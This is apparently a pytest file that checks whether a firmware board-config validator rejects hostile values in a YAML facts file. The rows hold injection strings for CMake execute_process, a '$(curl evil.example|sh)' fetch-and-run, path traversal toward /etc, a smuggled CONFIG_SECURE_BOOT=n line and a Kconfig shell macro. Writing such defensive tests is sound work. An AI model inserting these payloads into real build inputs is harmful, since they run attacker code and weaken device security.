"""`boards/_firmware.yaml` from a stranger's pull request (issue 39, item 2): each string is typed by its sink as
the board files' strings are. Each row edits the committed facts file (through PyYAML, every other field real)
and `boards check` must refuse it with one `_firmware.yaml:line:col` line naming the field and the allowed form.
Before the fix every row here passed `boards check` (the CMake condition was then written into main/CMakeLists.txt).
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.hostile.conftest import run_cli

REPO = Path(__file__).resolve().parents[2]
CMAKE_CODE = 'BOARD_TYPE STREQUAL "x")\nexecute_process(COMMAND touch /tmp/pwned)\nif(1'

Edit = Callable[[dict[str, Any]], None]


def _hook(key: str, value: Any) -> Edit:
    return lambda d: d["cmake_hooks"][0].__setitem__(key, value)


def _layer(key: str, value: str) -> Edit:
    return lambda d: d["sdkconfig_defaults"]["esp32"].__setitem__(key, value)


# (id, edit, field path in the message, the allowed form the message names)
ROWS: list[tuple[str, Edit, str, str]] = [
    ("hook-condition-execute-process", _hook("condition", CMAKE_CODE), r"cmake_hooks\.0\.condition",
     "a CMake if\\(\\) condition"),
    ("hook-condition-variable-expansion", _hook("condition", '"${CMAKE_COMMAND}" STREQUAL "x"'),
     r"cmake_hooks\.0\.condition", "a CMake if\\(\\) condition"),
    ("hook-component-injection", _hook("components", ["m5pm1)\nexecute_process(COMMAND id)\nlist(APPEND X"]),
     r"cmake_hooks\.0\.components\.0", "a CMake word"),
    ("commit-branch-name", lambda d: d.__setitem__("upstream_commit", "main"), "upstream_commit",
     "40 lowercase hexadecimal"),
    ("commit-shell-substitution", lambda d: d.__setitem__("upstream_commit", "$(curl evil.example|sh)"),
     "upstream_commit", "40 lowercase hexadecimal"),
    ("commit-upper-case", lambda d: d.__setitem__("upstream_commit", "48142026B50B50F6748C003AE3B28D1CBE4CB667"),
     "upstream_commit", "40 lowercase hexadecimal"),
    ("table-path-absolute", _layer("PARTITION_TABLE_CUSTOM_FILENAME", '"/etc/passwd.csv"'),
     r"sdkconfig_defaults\.esp32\.PARTITION_TABLE_CUSTOM_FILENAME", "relative .csv path inside the firmware tree"),
    ("table-path-dotdot", _layer("PARTITION_TABLE_CUSTOM_FILENAME", '"../../x.csv"'),
     r"sdkconfig_defaults\.esp32\.PARTITION_TABLE_CUSTOM_FILENAME", "relative .csv path inside the firmware tree"),
    ("sdkconfig-value-newline", _layer("ESP_TASK_WDT_TIMEOUT_S", "20\nCONFIG_SECURE_BOOT=n"),
     r"sdkconfig_defaults\.esp32\.ESP_TASK_WDT_TIMEOUT_S", "y, n, a decimal"),
    ("cmake-default-injection", lambda d: d["cmake_defaults"].__setitem__("BUILTIN_TEXT_FONT", "x)\nexecute_process("
                                                                                               "COMMAND id"),
     r"cmake_defaults\.BUILTIN_TEXT_FONT", "a CMake argument"),
    ("choice-default-not-symbol", lambda d: d["board_choice_defaults"].__setitem__("esp32", "X\n    default Y"),
     r"board_choice_defaults\.esp32", "BOARD_TYPE_<NAME>"),
    ("cmake-order-not-symbol", lambda d: d["cmake_order"].__setitem__(0, "BOARD_TYPE_X)\nset(BOARD_DIR y"),
     r"cmake_order\.0", "BOARD_TYPE_<NAME>"),
    ("locale-dir-traversal", lambda d: d["locales"][0].__setitem__("dir", "../../etc"), r"locales\.0\.dir",
     "a locale directory name"),
    ("kconfig-block-shell-macro", lambda d: d["kconfig_blocks"][0].__setitem__("text", 'config X\n  default '
                                                                                       '"$(shell,id)"'),
     r"kconfig_blocks\.0\.text", "Kconfig"),
    ("unimported-symbol-not-symbol", lambda d: d.__setitem__("unimported", [
        {"dir": "x", "symbols": ["BOARD_TYPE_X)\nset(BOARD_DIR y"], "why": "x"}]), r"unimported\.0\.symbols\.0",
     "BOARD_TYPE_<NAME>"),
    ("unimported-why-two-lines", lambda d: d.__setitem__("unimported", [
        {"dir": "x", "symbols": [], "why": "a\nb"}]), r"unimported\.0\.why", "one printable line"),
]


@pytest.mark.parametrize(("case", "edit", "field", "form"), ROWS, ids=[r[0] for r in ROWS])
def test_facts_string_is_typed_by_its_sink(case: str, edit: Edit, field: str, form: str, tmp_path: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    boards = tmp_path / "boards"
    shutil.copytree(REPO / "boards", boards)
    facts = boards / "_firmware.yaml"
    data = yaml.safe_load(facts.read_text(encoding="utf-8"))
    edit(data)
    facts.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    code, _, err = run_cli(["boards", "check", "--boards", str(boards)], capsys)
    assert code == 1, err
    assert "Traceback" not in err
    lines = [ln for ln in err.splitlines() if re.search(rf"_firmware\.yaml:\d+:\d+: {field}\b", ln)]
    assert lines, err
    assert re.search(form, lines[0]), lines[0]
